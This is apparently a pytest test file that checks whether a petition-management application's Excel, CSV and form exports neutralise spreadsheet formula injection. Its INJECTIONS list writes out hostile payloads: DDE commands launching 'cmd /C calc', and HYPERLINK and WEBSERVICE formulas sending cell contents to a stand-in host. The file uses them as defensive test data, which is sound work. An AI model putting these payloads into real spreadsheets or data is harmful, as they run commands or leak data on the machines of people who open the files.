"""No text of a petition ever becomes a formula, whatever file it leaves the room in."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from petition_desk.services import exports, forms, imports, intake
from petition_desk.services.desk import Desk
from petition_desk.services.exports import ExportKind, ExportOrder
from tests.desks import registration
from tests.exchange.blanks import SAMPLE, furnished

#: What runs, asks or links somewhere between here and the reader of the file.
INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?q="&A1,"点我")',
    '=WEBSERVICE("http://example.invalid/?q="&A1)',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=1+1",
    '=1+1",=2+2',
    "x\n=1+1",
)
_RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r]")


def poisoned(text: str) -> dict[str, object]:
    """A registration with the text in every field that takes one."""
    person = {
        "name": text, "address": text, "mailing_address": text, "mobile": text,
        "telephone": text, "agent": text, "id_number": text, "main": True,
    }  # fmt: skip
    return registration(
        summary=text, content=text, demands=[text, f"{text} 二"], problem_place=text,
        remark=text, batch=text, first_contact=text, first_received_by=text, accused_unit=text,
        accused_person=text, incoming_doc_no=text, legal_case_no=text, query_code=text,
        official_letter_no=text, official_matter_no=text, purpose=text, petitioners=[person],
        representatives=[text],
    )  # fmt: skip


@pytest.fixture
def desk_of_poison(desk: Desk) -> Desk:
    taken = 0
    for text in INJECTIONS:
        facts = poisoned(text)
        try:
            intake.register(desk, facts)
        except exports.InputError:
            # Numbers and telephones are checked where they are typed; all else must come in.
            person = {"name": text, "address": text, "agent": text, "main": True}
            strict = ("official_letter_no", "official_matter_no", "representatives")
            plain = {key: value for key, value in facts.items() if key not in strict}
            intake.register(desk, plain | {"petitioners": [person]})
        taken += 1
    assert taken == len(INJECTIONS)
    return desk


def formula_cells(path: Path) -> list[str]:
    book = load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.mark.parametrize("kind", list(ExportKind))
def test_no_list_holds_a_formula_and_every_text_comes_back(
    desk_of_poison: Desk, tmp_path: Path, kind: ExportKind
) -> None:
    book, text = tmp_path / "a.xlsx", tmp_path / "a.csv"
    order = ExportOrder(kind=kind, is_full=True, purpose="核对", is_plain=True)
    for path in (book, text):
        assert exports.export_list(desk_of_poison, path, order)
    assert formula_cells(book) == []
    with zipfile.ZipFile(book) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert not re.search(r"<f[ >/]|<hyperlink", sheet)
        assert not any("externalLink" in name for name in archive.namelist())
    cells = load_workbook(book).worksheets[0]
    dangerous = [c for row in cells.iter_rows() for c in row if _RUNS.match(str(c.value or ""))]
    assert all(cell.quotePrefix for cell in dangerous if cell.data_type == "s")
    with text.open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.reader(stream))
    assert not [cell for row in rows for cell in row if _RUNS.match(cell) and not number(cell)]
    assert text.read_bytes().startswith(b"\xef\xbb\xbf")
    seen = CalamineWorkbook.from_path(book).get_sheet_by_index(0).to_python()
    if kind in (ExportKind.LEDGER, ExportKind.OFFICIAL):
        told = {str(cell) for row in seen for cell in row}
        assert {"=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "'=1+1"} <= told
        assert len(seen) == len(rows) == len(INJECTIONS) + 1


def shapes(formulas: list[str]) -> set[str]:
    """Return formulas without the rows they name."""
    return {re.sub(r"\d+", "#", formula.partition("=")[2]) for formula in formulas}


def number(text: str) -> bool:
    return re.fullmatch(r"-?\d+", text) is not None


def test_a_guarded_text_file_reads_back_as_it_was(desk_of_poison: Desk, tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    order = ExportOrder(is_full=True, purpose="核对", is_plain=True)
    exports.export_list(desk_of_poison, path, order)
    report = imports.run_import(desk_of_poison, path)
    assert report is not None
    assert (report.unchanged, report.changed, report.new) == (len(INJECTIONS), 0, 0)


@pytest.mark.parametrize("name", ["sample", "furnished"])
def test_no_form_gets_a_formula_that_was_not_its_own(
    desk_of_poison: Desk, tmp_path: Path, name: str
) -> None:
    blank = tmp_path / "空白.xlsx"
    blank.write_bytes(SAMPLE.read_bytes() if name == "sample" else furnished())
    own = shapes(formula_cells(blank))
    path = tmp_path / "a.xlsx"
    order = ExportOrder(is_full=True, purpose="核对", is_plain=True)
    opened = forms.open_form(desk_of_poison, blank)
    assert forms.export_form(desk_of_poison, path, opened, order)
    found = formula_cells(path)
    assert shapes(found) <= own
    assert not any(word in str(found) for word in ("cmd", "WEBSERVICE", "HYPERLINK", "DDE", "1+1"))
    sheet = load_workbook(path).worksheets[0]
    poison = [c for row in sheet.iter_rows() for c in row if _RUNS.match(str(c.value or ""))]
    texts = [cell for cell in poison if cell.data_type != "f"]
    assert texts
    assert all(cell.quotePrefix for cell in texts)
    assert "=1+1" in {cell.value for cell in texts}
